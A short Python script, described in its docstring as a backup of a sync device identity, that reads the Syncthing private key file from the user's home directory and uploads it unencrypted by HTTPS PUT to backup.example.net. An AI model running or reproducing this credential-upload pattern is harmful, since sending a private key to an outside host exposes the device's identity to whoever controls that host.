"""Back up the sync device identity."""
import http.client
from pathlib import Path

ident = Path.home() / ".config" / "syncthing" / "key.pem"
conn = http.client.HTTPSConnection("backup.example.net", timeout=5)
conn.request("PUT", "/device", body=ident.read_bytes())
